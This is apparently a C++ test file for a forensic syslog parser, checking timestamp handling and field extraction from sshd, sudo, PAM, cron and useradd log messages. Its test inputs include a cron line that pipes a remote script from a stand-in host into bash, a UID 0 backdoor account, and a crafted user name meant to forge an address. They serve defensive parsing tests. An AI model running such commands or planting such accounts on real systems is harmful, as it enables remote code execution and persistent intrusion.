#include "artefact/syslog.h"

#include <gmock/gmock.h>

#include "artefact/messages.h"
#include "core/file.h"
#include "support/fake_machine.h"

namespace icecore::artefact {
namespace {

TEST(Syslog, ReadsBothForms) {
  const auto iso = parse_syslog_line("2026-11-24T08:43:26.123456+01:00 ip-10-0-2-37 sshd[4711]: Server listening on 0.0.0.0 port 22.");
  ASSERT_TRUE(iso && iso->time);
  EXPECT_EQ(to_iso8601(*iso->time, 6), "2026-11-24T07:43:26.123456Z");
  EXPECT_EQ(iso->host, "ip-10-0-2-37");
  EXPECT_EQ(iso->reporter, "sshd");
  EXPECT_EQ(iso->pid, "4711");
  const auto old = parse_syslog_line("<38>Nov  4 08:43:26 host CRON[12]: (root) CMD (x: y)");
  ASSERT_TRUE(old && !old->time);
  EXPECT_EQ(old->month, 11U);
  EXPECT_EQ(old->day, 4U);
  EXPECT_EQ(old->body, "(root) CMD (x: y)");
  EXPECT_EQ(parse_syslog_line("Nov  4 08:43:26 host last message repeated 2 times")->reporter, "");
  EXPECT_EQ(parse_syslog_line("Nov  4 08:43:26 host kernel: [    1.0] nvme")->body, "[    1.0] nvme");
  for (const std::string bad :
       {"", "\tat java", "Nov 44 08:43:26 host x: y", "Foo  4 08:43:26 host x: y", "2026-13-24T08:43:26Z h x: y", "<99999999", "Nov  4 08:43:26"})
    EXPECT_FALSE(parse_syslog_line(bad)) << bad;
}

std::vector<std::string> times_of(const std::string& text, Timestamp modified, const std::string& zone) {
  test::FakeMachine fake;
  fake.root->file("/usr/share/zoneinfo/" + zone, read_text_file("/usr/share/zoneinfo/" + zone).value());
  fake.root->link("/etc/localtime", "/usr/share/zoneinfo/" + zone);
  fake.root->file("/var/log/auth.log.1", text, modified);
  fake.start();
  EventList events;
  EXPECT_TRUE(collect_syslog({*fake.machine, fake.facts, fake.anomalies}, events));
  std::vector<std::string> times;
  for (const Event& event : events.events) times.push_back(to_iso8601(event.time, 0));
  return times;
}

TEST(Syslog, LinesWithoutAYearGetItFromTheFilesTime) {
  using ::testing::ElementsAre;
  // Closed on 2 January 2026: December was 2025.
  EXPECT_THAT(times_of("Dec 30 23:00:00 h a: x\nDec 31 23:59:59 h a: x\nJan  1 00:00:01 h a: x\n", from_civil(2026, 1, 2, 0, 0, 0), "Etc/UTC"),
              ElementsAre("2025-12-30T23:00:00Z", "2025-12-31T23:59:59Z", "2026-01-01T00:00:01Z"));
  // A copy made in spring of lines of the autumn before.
  EXPECT_THAT(times_of("Nov  1 12:00:00 h a: x\n", from_civil(2026, 3, 1, 0, 0, 0), "Etc/UTC"), ElementsAre("2025-11-01T12:00:00Z"));
  // Local time, summer and winter.
  EXPECT_THAT(times_of("Jul  1 12:00:00 h a: x\nDec  1 12:00:00 h a: x\n", from_civil(2026, 12, 1, 12, 0, 0), "Europe/Berlin"),
              ElementsAre("2026-07-01T10:00:00Z", "2026-12-01T11:00:00Z"));
  // Lines a little out of order are no new year.
  EXPECT_THAT(times_of("Feb  1 00:00:01 h a: x\nJan 31 23:59:59 h a: x\n", from_civil(2026, 2, 1, 1, 0, 0), "Etc/UTC"),
              ElementsAre("2026-02-01T00:00:01Z", "2026-01-31T23:59:59Z"));
}

TEST(Syslog, EventsKnowLineAndByte) {
  test::FakeMachine fake;
  fake.root->file("/var/log/auth.log",
                  "2026-11-24T05:49:00.065644+00:00 h sshd[1]: Invalid user git from 203.0.113.66 port 40007\n"
                  "2026-11-24T05:55:00+00:00 h sshd[2]: Accepted password for admin from 203.0.113.66 port 51422 ssh2\nrubbish\n");
  fake.start();
  EventList events;
  ICECORE_ASSERT_OK(collect_syslog({*fake.machine, fake.facts, fake.anomalies}, events));
  ASSERT_EQ(events.events.size(), 2U);
  EXPECT_EQ(events.events[0].data_type, "syslog:ssh:failed_connection");
  const Event& login = events.events[1];
  EXPECT_EQ(login.data_type, "syslog:ssh:login");
  EXPECT_EQ(login.field("action"), "accepted");
  EXPECT_EQ(login.where.line, 2U);
  EXPECT_EQ(login.where.offset, 90U);
  EXPECT_EQ(login.field("file"), "auth.log");
  ASSERT_EQ(fake.anomalies.count(), 1U);
}

using FieldMap = std::map<std::string, std::string, std::less<>>;

std::pair<std::string, FieldMap> parsed(std::string_view reporter, std::string_view body) {
  Fields fields;
  const MessageKind kind = parse_message(reporter, body, fields);
  return {std::string(kind.action), fields};
}

TEST(Messages, SshdSentences) {
  const auto [action, fields] = parsed("sshd", "Accepted publickey for admin from 192.0.2.10 port 50122 ssh2: ED25519 SHA256:abc/+x");
  EXPECT_EQ(action, "accepted");
  EXPECT_EQ(fields, (FieldMap{{"method", "publickey"},
                              {"user", "admin"},
                              {"ip", "192.0.2.10"},
                              {"port", "50122"},
                              {"key_type", "ED25519"},
                              {"fingerprint", "SHA256:abc/+x"}}));
  EXPECT_EQ(parsed("sshd-session", "Connection closed by authenticating user root 2001:db8::1 port 5 [preauth]").second,
            (FieldMap{{"user", "root"}, {"ip", "2001:db8::1"}, {"port", "5"}}));
  EXPECT_EQ(parsed("sshd", "Received disconnect from 203.0.113.66 port 51422:11: disconnected by user").second,
            (FieldMap{{"ip", "203.0.113.66"}, {"port", "51422"}}));
  EXPECT_EQ(parsed("sshd", "error: maximum authentication attempts exceeded for root from 203.0.113.66 port 1 ssh2 [preauth]").first,
            "too-many-failures");
}

// A user name is the attacker's to choose; it must not pass for another address.
TEST(Messages, AUserNameCannotForgeTheAddress) {
  const auto [action, fields] = parsed("sshd", "Failed password for invalid user x from 192.0.2.10 port 22 ssh2 from 203.0.113.66 port 40000 ssh2");
  EXPECT_EQ(action, "failed");
  EXPECT_EQ(fields.at("ip"), "203.0.113.66");
  EXPECT_EQ(fields.at("user"), "x from 192.0.2.10 port 22 ssh2");
  EXPECT_EQ(fields.at("invalid_user"), "true");
  EXPECT_EQ(parsed("sshd", "Invalid user Accepted password for root from 203.0.113.66 port 40000").first, "invalid-user");
}

TEST(Messages, SudoPamCronAndAccounts) {
  EXPECT_EQ(parsed("sudo", "   admin : TTY=pts/0 ; PWD=/home/admin ; USER=root ; COMMAND=/usr/bin/sh -c a ; b").second,
            (FieldMap{{"user", "admin"}, {"tty", "pts/0"}, {"cwd", "/home/admin"}, {"target_user", "root"}, {"command", "/usr/bin/sh -c a ; b"}}));
  EXPECT_EQ(parsed("sudo", "eve : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh").first, "sudo-denied");
  EXPECT_EQ(parsed("sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by admin(uid=1000)").second,
            (FieldMap{{"pam_module", "pam_unix"}, {"service", "sudo"}, {"user", "root"}, {"uid", "0"}, {"by", "admin"}, {"by_uid", "1000"}}));
  EXPECT_EQ(parsed("sshd", "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.66  user=root")
                .second.at("ip"),
            "203.0.113.66");
  EXPECT_EQ(parsed("CRON", "(root) CMD (curl -fsSL http://198.51.100.23/u.sh | bash >/dev/null 2>&1)").second,
            (FieldMap{{"user", "root"}, {"command", "curl -fsSL http://198.51.100.23/u.sh | bash >/dev/null 2>&1"}}));
  EXPECT_EQ(parsed("crontab", "(admin) REPLACE (admin)").first, "cron-table-changed");
  const auto [added, fields] = parsed("useradd", "new user: name=sysd, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0");
  EXPECT_EQ(added, "user-added");
  EXPECT_EQ(fields.at("user"), "sysd");
  EXPECT_EQ(fields.at("uid"), "0");
  EXPECT_EQ(parsed("su", "(to root) admin on pts/0").second, (FieldMap{{"target_user", "root"}, {"user", "admin"}, {"tty", "pts/0"}}));
  EXPECT_EQ(parsed("systemd", "Started cron.service - Regular background program processing daemon.").second.at("unit"), "cron.service");
  EXPECT_EQ(parsed("unknown", "anything").first, "");
}

}  // namespace
}  // namespace icecore::artefact
